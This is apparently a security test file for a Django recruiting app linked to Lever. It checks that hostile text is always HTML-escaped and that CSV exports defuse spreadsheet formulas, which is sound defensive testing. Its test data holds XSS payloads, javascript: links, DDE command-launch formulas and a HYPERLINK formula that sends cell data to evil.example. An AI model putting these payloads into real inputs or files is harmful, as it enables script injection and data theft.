"""HTML/JS in every text field is shown as text on every page, and CSV we hand out cannot run formulas.

A workspace is filled with a marker payload (a tag breaking out of an attribute, a script, an image
with onerror, template syntax) in every text field people or Lever control: candidate, application,
notes mirrored from Lever, interviews, offers, feedback, files, jobs, stages, archive reasons, users,
the workspace and connection, write-backs, sync runs, webhook events, recorded changes, imports and
scores (computed by the real engine from a job and a resume that contain the payload). Then every
GET page of the project (each URL pattern, with the payload in its query string too, plain and as
htmx) and the Django admin's changelists and change forms are fetched: the raw payload never
appears, only its escaped form, and no link points at a `javascript:` URL.
"""

from __future__ import annotations

import csv
import io
import re
import uuid
from datetime import timedelta
from urllib.parse import urlencode

import pytest
from django.contrib import admin
from django.contrib.contenttypes.models import ContentType
from django.core.files.base import ContentFile
from django.urls import reverse
from django.utils import timezone

from apps.accounts.models import Membership
from apps.automation.models import Notification, RuleFiring
from apps.automation.services import rule_save
from apps.candidates.models import Application, Candidate, Outcome, ReasonType
from apps.imports.models import ImportStatus, RowStatus
from apps.integrations.models import ChangeKind, WritebackAction, WritebackKind, WritebackStatus
from apps.jobs.models import JobStatus
from apps.scoring.models import Score
from apps.scoring.services import score_applications
from tests.candidates.factories import (
    ApplicationFactory,
    AttachmentFactory,
    CandidateExportFactory,
    CandidateFactory,
    InterviewFactory,
    NoteFactory,
    OfferFactory,
    RejectionReasonFactory,
    ScorecardFactory,
    SourceFactory,
    TagFactory,
)
from tests.conftest import client_for
from tests.hostile import real_pdf
from tests.imports.factories import CandidateImportFactory, ImportRowFactory
from tests.integrations.factories import (
    AtsUserFactory,
    RecordChangeFactory,
    SyncRunFactory,
    WebhookEventFactory,
    WritebackActionFactory,
)
from tests.jobs.factories import (
    HiringTeamMemberFactory,
    JobFactory,
    JobScreeningQuestionFactory,
    JobStageFactory,
    RequisitionFactory,
    ScreeningQuestionFactory,
    StageFactory,
)
from tests.scoring.factories import ScoreFeedbackFactory, ScoringProfileFactory
from tests.test_crawler import all_routes, build_url, ours

pytestmark = pytest.mark.django_db

# Breaks out of an attribute, runs a script, loads an image that runs one, and is template syntax twice
# (Jinja-style, and Django's: rendered as a template it would print 31338).
PAYLOAD = "\"><script>alert('rd')</script><img src=x onerror=alert(1)>{{7*7}}{{ 31337|add:1 }}"
ESCAPED = "&quot;&gt;&lt;script&gt;alert(&#x27;rd&#x27;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"
RAW_MARKERS = ("<script>alert('rd')", "<img src=x onerror", "31338")
JS_URL = "javascript:alert('rd')//" + PAYLOAD
JS_LINK = re.compile(r"""(?:href|src|action|formaction|hx-get|hx-post)\s*=\s*["']?\s*javascript:""", re.I)
# Spreadsheet formulas, each starting with a character a spreadsheet runs (OWASP "CSV injection").
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text(limit: int | None = None) -> str:
    return PAYLOAD if limit is None else PAYLOAD[:limit]


@pytest.fixture
def hostile(cast):
    """Acme's workspace with the payload in every text field of every kind of record it holds."""
    connection, workspace = cast.connection, cast.workspace
    workspace.name = text(120)
    workspace.save()
    cast.owner.full_name = text(150)
    cast.owner.save()
    connection.name = text(120)
    connection.status_reason = PAYLOAD
    connection.last_error = PAYLOAD
    connection.save()
    remote = {"text": PAYLOAD, "urls": {"show": JS_URL}}
    lever_user = AtsUserFactory(
        connection=connection,
        name=PAYLOAD,
        email="lever-user@acme.example",
        job_title=PAYLOAD,
        remote_data=remote,
    )
    connection.writeback_user = lever_user
    connection.save()

    job = JobFactory(
        connection=connection,
        name=PAYLOAD,
        description=f"Python developer wanted. {PAYLOAD}",
        description_html=f"<div>{PAYLOAD}</div>",
        closing_html=PAYLOAD,
        requirement_lists=[{"text": PAYLOAD, "items": [f"Python {PAYLOAD}", PAYLOAD]}],
        department=PAYLOAD,
        team=PAYLOAD,
        location=PAYLOAD,
        employment_type=text(120),
        level=text(120),
        salary_description=PAYLOAD,
        salary_interval=text(40),
        all_locations=[PAYLOAD],
        tags=[PAYLOAD],
        requisition_codes=[PAYLOAD],
        post_url=JS_URL,
        apply_url=JS_URL,
        remote_url=JS_URL,
        owner=lever_user,
        hiring_manager=lever_user,
        remote_data=remote,
        status=JobStatus.PUBLISHED,
    )
    RequisitionFactory(connection=connection, code=PAYLOAD, name=PAYLOAD, location=PAYLOAD, team=PAYLOAD)
    stages = [
        StageFactory(connection=connection, name=f"{PAYLOAD} {n}", global_index=n, remote_data=remote)
        for n in range(2)
    ]
    for position, stage in enumerate(stages):
        JobStageFactory(job=job, stage=stage, position=position)
    HiringTeamMemberFactory(job=job, user=lever_user)
    question = ScreeningQuestionFactory(
        connection=connection, text=PAYLOAD, description=PAYLOAD, options=[PAYLOAD], question_type=text(40)
    )
    JobScreeningQuestionFactory(job=job, question=question)
    ScoringProfileFactory(job=job, must_haves=["Python", PAYLOAD], nice_to_haves=[PAYLOAD])
    reason = RejectionReasonFactory(connection=connection, name=PAYLOAD, reason_type=ReasonType.NON_HIRED)
    tag = TagFactory(connection=connection, name=PAYLOAD)
    SourceFactory(connection=connection, name=PAYLOAD)

    person = {
        "name": PAYLOAD,
        "first_name": text(150),
        "last_name": text(150),
        "email": "ada@acme.example",
        "emails": [PAYLOAD, "ada@acme.example"],
        "phones": [{"type": PAYLOAD, "value": PAYLOAD}],
        "links": [PAYLOAD, JS_URL],
        "linkedin_url": JS_URL,
        "location": PAYLOAD,
        "headline": PAYLOAD,
        "current_title": PAYLOAD,
        "current_company": PAYLOAD,
        "sourcing": {"source": PAYLOAD, "tags": [PAYLOAD]},
        "remote_data": remote,
    }
    candidate = CandidateFactory(connection=connection, **person)
    twin = CandidateFactory(connection=connection, **person)  # a possible duplicate (same email)
    local = CandidateFactory(connection=connection, **{**person, "email": "local@acme.example"})
    Candidate.objects.filter(pk=local.pk).update(remote_id=None, connection=None)  # added here, not in Lever
    application = ApplicationFactory(
        connection=connection,
        candidate=candidate,
        job=job,
        current_stage=stages[0],
        stage_entered_at=timezone.now() - timedelta(days=3),
        sources=[PAYLOAD],
        owner=lever_user,
        sourced_by=lever_user,
        answers=[{"text": PAYLOAD, "answer": PAYLOAD}],
        remote_url=JS_URL,
        remote_data=remote,
    )
    application.tags.add(tag)
    archived = ApplicationFactory(
        connection=connection,
        candidate=twin,
        job=job,
        current_stage=stages[1],
        outcome=Outcome.REJECTED,
        archived_at=timezone.now(),
        rejection_reason=reason,
        sources=[PAYLOAD],
    )
    archived.tags.add(tag)
    NoteFactory(application=application, body=PAYLOAD, author=lever_user, remote_data=remote)
    NoteFactory(application=application, body=PAYLOAD, author=lever_user, secret=True)
    InterviewFactory(
        application=application, title=PAYLOAD, location=PAYLOAD, video_link=JS_URL, timezone=text(64)
    )
    OfferFactory(
        application=application,
        status=text(40),
        job_title=PAYLOAD,
        fields=[{"identifier": PAYLOAD, "text": PAYLOAD, "value": PAYLOAD}],
    )
    ScorecardFactory(
        application=application,
        title=PAYLOAD,
        rating_label=text(120),
        author=lever_user,
        answers=[{"text": PAYLOAD, "value": PAYLOAD}],
    )
    resume_text = f"{PAYLOAD}\nSenior Python developer\nSkills: Python, Django, {PAYLOAD}"
    attachment = AttachmentFactory(
        application=application,
        name=f"{PAYLOAD}.pdf",
        content_type="application/pdf",
        extension="pdf",
        extracted_text=resume_text,
        file=ContentFile(real_pdf(), name="resume.pdf"),
        text_extracted_at=timezone.now(),
        uploaded_at=timezone.now(),
    )
    CandidateExportFactory(
        candidate=local,
        job=job,
        status="duplicate",
        matched_candidate=candidate,
        matched_name=PAYLOAD,
        match_reason=PAYLOAD,
        message=PAYLOAD,
    )
    CandidateExportFactory(candidate=local, job=job, status="failed", message=PAYLOAD)

    batch = uuid.uuid4()
    writebacks = [
        WritebackActionFactory(
            connection=connection,
            application=application,
            kind=WritebackKind.ADD_NOTE,
            payload={"text": PAYLOAD, "secret": False},
            status=status,
            last_error=PAYLOAD,
            status_reason=PAYLOAD,
            batch_id=batch,
            batch_label=text(200),
            requested_by=cast.owner,
        )
        for status in (WritebackStatus.FAILED, WritebackStatus.AWAITING_APPROVAL, WritebackStatus.PENDING)
    ]
    WritebackActionFactory(
        connection=connection,
        application=application,
        kind=WritebackKind.ADD_TAG,
        payload={"tag": PAYLOAD},
        status=WritebackStatus.SUCCEEDED,
        response={"data": PAYLOAD},
    )
    run = SyncRunFactory(
        connection=connection, status="failed", error=PAYLOAD, errors=[PAYLOAD, {"reason": PAYLOAD}]
    )
    SyncRunFactory(connection=connection, status="running", stats={"opportunities": {"created": 3}})
    WebhookEventFactory(connection=connection, event=text(64), payload={"data": PAYLOAD}, error=PAYLOAD)
    for obj, fields in (
        (application, {"current_stage_id": [stages[0].pk, stages[1].pk], PAYLOAD: [PAYLOAD, PAYLOAD]}),
        (candidate, {"headline": [PAYLOAD, PAYLOAD], "location": [PAYLOAD, PAYLOAD]}),
    ):
        RecordChangeFactory(
            connection=connection,
            content_type=ContentType.objects.get_for_model(obj),
            object_id=obj.pk,
            remote_id=text(255),
            kind=ChangeKind.UPDATED,
            fields=fields,
            sync_run=run,
        )

    problems = [{"row": 2, "name": PAYLOAD, "reasons": [PAYLOAD], "candidate": candidate.pk}]
    imports = {
        status: CandidateImportFactory(
            workspace=workspace,
            created_by=cast.owner,
            original_name=f"{PAYLOAD}.csv",
            headers=[PAYLOAD, "Email"],
            sample=[[PAYLOAD, PAYLOAD]],
            mapping={"0": "name", "1": "emails"},
            status=status,
            job=job,
            stage=stages[0],
            error=PAYLOAD,
            preview={
                "valid": 1,
                "invalid": 1,
                "leads": 0,
                "kinds": [[PAYLOAD, 1]],
                "jobs": [[job.pk, PAYLOAD, 1]],
                "problems": problems,
                "checked_at": timezone.now().isoformat(),
            },
        )
        for status in (
            ImportStatus.UPLOADED,
            ImportStatus.READY,
            ImportStatus.RUNNING,
            ImportStatus.SUCCEEDED,
        )
    }
    for number, value in enumerate([PAYLOAD, *FORMULAS]):
        ImportRowFactory(
            candidate_import=imports[ImportStatus.SUCCEEDED],
            row_number=number + 2,
            status=RowStatus.SKIPPED if number else RowStatus.CREATED,
            name=value,
            reason=value,
            candidate=candidate if not number else None,
        )

    formula_people = []
    for formula in FORMULAS:  # the pipeline export's every text column starts with a formula
        person = CandidateFactory(
            connection=connection,
            name=formula,
            email=f"{uuid.uuid4().hex[:8]}@acme.example",
            headline=formula,
        )
        formula_tag = TagFactory(connection=connection, name=formula)
        owner = AtsUserFactory(connection=connection, name=formula)
        formula_application = ApplicationFactory(
            connection=connection,
            candidate=person,
            job=job,
            current_stage=stages[0],
            sources=[formula],
            owner=owner,
        )
        formula_application.tags.add(formula_tag)
        formula_people.append(person)

    score_applications(Application.objects.filter(job=job), force=True, write_back=False)
    score = Score.objects.get(application=application)
    rule, notice = hostile_automation(cast, application, stages[0], lever_user, writebacks[0])
    ScoreFeedbackFactory(application=application, user=cast.owner, reason=PAYLOAD, verdict="down")
    return {
        "job": job,
        "candidate": candidate,
        "local": local,
        "application": application,
        "attachment": attachment,
        "imports": imports,
        "writeback": writebacks[0],
        "batch": batch,
        "score": score,
        "membership": Membership.objects.get(workspace=workspace, user=cast.viewer),
        "connection": connection,
        "rule": rule,
        "notice": notice,
    }


def hostile_automation(cast, application, stage, lever_user, writeback):
    """A rule whose every text is the payload, a firing of it, and a notification about it."""
    draft = {
        "name": text(200),
        "description": PAYLOAD,
        "trigger": "stage_changed",
        "trigger_options": {"to_stage": stage.pk},
        "conditions": [
            {"field": "source", "op": "in", "value": [PAYLOAD]},
            {"field": "owner", "op": "in", "value": [lever_user.pk]},
        ],
        "actions": [
            {"kind": "add_tag", "tag": text(255)},
            {"kind": "add_note", "text": f"{PAYLOAD} {{first_name}} {{job_title}} {{stage}}"},
            {"kind": "add_result_link", "label": text(200), "url": "https://example.com/?q=%22%3E"},
            {"kind": "notify", "recipients": ["owner"], "users": [cast.owner.pk], "message": PAYLOAD},
        ],
    }
    rule = rule_save(workspace=cast.workspace, draft=draft, by=cast.owner)
    firing = RuleFiring.objects.create(
        workspace=cast.workspace,
        rule=rule,
        rule_version=rule.version,
        idempotency_key=text(255),
        application=application,
        candidate=application.candidate,
        status="failed",
        reason=PAYLOAD,
        conditions=[{"condition": PAYLOAD, "passed": False, "value": PAYLOAD}],
        actions=[
            {
                "kind": "add_note",
                "summary": PAYLOAD,
                "detail": PAYLOAD,
                "status": "queued",
                "writeback": writeback.pk,
            },
            {"kind": "notify", "summary": PAYLOAD, "status": "failed", "reason": PAYLOAD},
        ],
    )
    notice = Notification.objects.create(
        workspace=cast.workspace,
        user=cast.owner,
        title=PAYLOAD,
        body=PAYLOAD,
        url=JS_URL,
        firing=firing,
        key=text(255),
    )
    return rule, notice


def objects_for(hostile) -> dict[str, object]:
    """The object each URL pattern with an id is fetched for (a new pattern must be added here)."""
    job, application, imports = hostile["job"], hostile["application"], hostile["imports"]
    export = hostile["local"].exports.order_by("pk").first()
    by_prefix = {
        "jobs:": job,
        "scoring:job": job,
        "scoring:application-feedback": application,
        "actions:application-": application,
        "candidates:file-": hostile["attachment"],
        "candidates:export-": export,
        "candidates:job-ats-sync": job,
        "candidates:detail": hostile["candidate"],
        "candidates:changes": hostile["candidate"],
        "candidates:export": hostile["local"],
        "candidates:edit": hostile["local"],
        "integrations:connection-": hostile["connection"],
        "integrations:writeback-": hostile["writeback"],
        "accounts:member-": hostile["membership"],
        "automation:notification-": hostile["notice"],
        "automation:": hostile["rule"],
        "imports:mapping": imports[ImportStatus.UPLOADED],
        "imports:preview": imports[ImportStatus.READY],
        "imports:progress": imports[ImportStatus.RUNNING],
        "imports:": imports[ImportStatus.SUCCEEDED],
    }
    return by_prefix


def url_of(route, objects, hostile) -> str:
    url = build_url(route, 0)
    if "<int:pk>" in "".join(str(part) for part in route.parts):
        obj = next((obj for prefix, obj in objects.items() if route.key.startswith(prefix)), None)
        assert obj is not None, f"add {route.key} to objects_for()"
        url = build_url(route, obj.pk)
    if route.key == "actions:batch-status":
        url = reverse(route.key, args=[hostile["batch"]])
    if route.key == "integrations:add":
        url = reverse(route.key, args=["lever"])
    return url


def assert_inert(url: str, response) -> None:
    assert response.status_code != 500, url
    content_type = response.get("Content-Type", "")
    if response.streaming or "html" not in content_type:
        return
    page = response.content.decode()
    for marker in RAW_MARKERS:
        assert marker not in page, f"{url} shows the payload unescaped ({marker!r})"
    assert not JS_LINK.search(page), f"{url} links to a javascript: URL"


QUERY = urlencode(
    dict.fromkeys(
        ("q", "tag", "source", "origin", "owner", "tier", "min_score", "stage", "sort", "page", "tab"),
        PAYLOAD,
    )
    | {"next": JS_URL, "since": PAYLOAD, "before": PAYLOAD, "job": PAYLOAD, "batch": PAYLOAD}
    # The OAuth callback's parameters, which Lever (or anyone) sends back.
    | {"state": PAYLOAD, "code": PAYLOAD, "error": PAYLOAD, "error_description": PAYLOAD}
)
# Pages that must show the payload (escaped): proof that the records reached the pages at all.
MUST_SHOW = {
    "dashboard:index",
    "jobs:list",
    "jobs:detail",
    "jobs:edit",
    "jobs:pipeline",
    "jobs:pipeline-list",
    "candidates:list",
    "candidates:detail",
    "candidates:edit",
    "candidates:duplicates",
    "candidates:job-ats-sync",
    "scoring:job",
    "imports:list",
    "imports:detail",
    "imports:mapping",
    "imports:preview",
    "integrations:index",
    "integrations:connection-detail",
    "integrations:approvals",
    "accounts:settings",
    "automation:index",
    "automation:detail",
    "automation:edit",
    "automation:preview",
    "automation:notifications",
}


def test_every_page_shows_hostile_text_escaped(cast, hostile):
    client = client_for(cast.owner)
    objects = objects_for(hostile)
    shown: set[str] = set()
    for route in all_routes():
        if not ours(route):
            continue
        url = url_of(route, objects, hostile)
        for variant in (url, f"{url}?{QUERY}"):
            for headers in ({}, {"HTTP_HX_REQUEST": "true"}):
                response = client.get(variant, **headers)
                assert_inert(variant, response)
                if not response.streaming and ESCAPED in response.content.decode(errors="replace"):
                    shown.add(route.key)
    assert shown >= MUST_SHOW, f"the payload never reached {sorted(MUST_SHOW - shown)}"


def test_the_profile_shows_notes_from_lever_explanations_and_resume_as_text(cast, hostile):
    response = client_for(cast.owner).get(reverse("candidates:detail", args=[hostile["candidate"].pk]))
    page = response.content.decode()
    assert_inert("profile", response)
    # A mirrored note, the resume text with its highlighted evidence, the score explanation.
    assert page.count(ESCAPED) >= 10
    assert "Python" in str(hostile["score"].explanation) and '<mark id="' in page
    assert f'<div class="timeline-text pre">{ESCAPED}' in page


def test_the_staff_admin_shows_hostile_text_escaped(cast, hostile, staff_client):
    models = {type(obj) for obj in hostile.values() if hasattr(obj, "_meta")}
    models |= {
        model
        for model in admin.site._registry
        if model._meta.app_label in ("accounts", "candidates", "jobs", "integrations", "imports", "scoring")
    }
    shown = 0
    for model in sorted(models, key=lambda m: m._meta.label):
        if model not in admin.site._registry:
            continue
        info = (model._meta.app_label, model._meta.model_name)
        changelist = reverse("admin:{}_{}_changelist".format(*info))
        for url in (changelist, f"{changelist}?{urlencode({'q': PAYLOAD})}"):
            response = staff_client.get(url)
            assert response.status_code in (200, 302), url
            assert_inert(url, response)
        instance = model._default_manager.filter(**_in_acme(model, cast)).order_by("pk").last()
        if instance is not None:
            url = reverse("admin:{}_{}_change".format(*info), args=[instance.pk])
            response = staff_client.get(url)
            assert response.status_code == 200, url
            assert_inert(url, response)
            shown += ESCAPED in response.content.decode()
    assert shown >= 15


def _in_acme(model, cast) -> dict:
    names = {field.name for field in model._meta.get_fields()}
    if "workspace" in names:
        return {"workspace": cast.workspace}
    if model._meta.label == "accounts.Workspace":
        return {"pk": cast.workspace.pk}
    if model._meta.label == "accounts.User":
        return {"pk": cast.owner.pk}
    return {}


# -- CSV we hand out ----------------------------------------------------------------------------------------


def rows_of(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"a spreadsheet would run {cell!r}"


def test_the_pipeline_export_neutralises_formulas_and_keeps_html_as_text(cast, hostile):
    url = reverse("jobs:pipeline-export", args=[hostile["job"].pk])
    rows = rows_of(client_for(cast.viewer).get(url))
    assert_no_formula(rows)
    cells = [cell for row in rows for cell in row]
    for formula in FORMULAS:
        assert f"'{formula}" in cells  # kept, as text: nothing lost
    assert PAYLOAD in cells  # the name, as typed: inert in a CSV file, never HTML-escaped into it
    archived = rows_of(client_for(cast.viewer).get(url + "?archived=1"))
    assert_no_formula(archived)
    assert PAYLOAD in [cell for row in archived for cell in row]


def test_the_import_report_neutralises_formulas_and_keeps_html_as_text(cast, hostile):
    candidate_import = hostile["imports"][ImportStatus.SUCCEEDED]
    rows = rows_of(client_for(cast.owner).get(reverse("imports:report", args=[candidate_import.pk])))
    assert_no_formula(rows)
    names = [row[2] for row in rows[1:]]
    assert names == [PAYLOAD, *(f"'{formula}" for formula in FORMULAS)]
    assert [row[3] for row in rows[2:]] == [f"'{formula}" for formula in FORMULAS]


def test_the_scoring_exports_neutralise_formulas(cast, hostile):
    for name in ("scoring:job-export", "scoring:job-join-keys"):
        response = client_for(cast.owner).get(reverse(name, args=[hostile["job"].pk]))
        assert response.status_code == 200
        assert_no_formula(rows_of(response))


# -- what goes to Lever --------------------------------------------------------------------------------------


def test_a_posting_edit_sends_text_fields_literally_and_refuses_script_in_the_description(cast, hostile):
    job = hostile["job"]
    client = client_for(cast.recruiter)
    url = reverse("jobs:edit", args=[job.pk])
    form = client.get(url).context["form"]
    data = {name: "" if (value := form[name].value()) is None else str(value) for name in form.fields}
    refused = client.post(url, data | {"description_html": f"<p>New: {PAYLOAD}</p>"})
    assert refused.status_code == 400
    assert (
        "Lever does not accept &lt;script&gt;, &lt;img&gt; in a posting description"
        in refused.content.decode()
    )
    assert_inert(url, refused)
    title = "=cmd|' /C calc'!A0 <b>Lead</b> " + PAYLOAD
    response = client.post(url, data | {"name": title, "team": f"{PAYLOAD} 2"}, follow=True)
    assert response.status_code == 200
    assert_inert(url, response)
    update = WritebackAction.objects.get(job=job, kind=WritebackKind.UPDATE_JOB)
    assert (update.payload["name"], update.payload["team"]) == (title, f"{PAYLOAD} 2")  # text, as typed
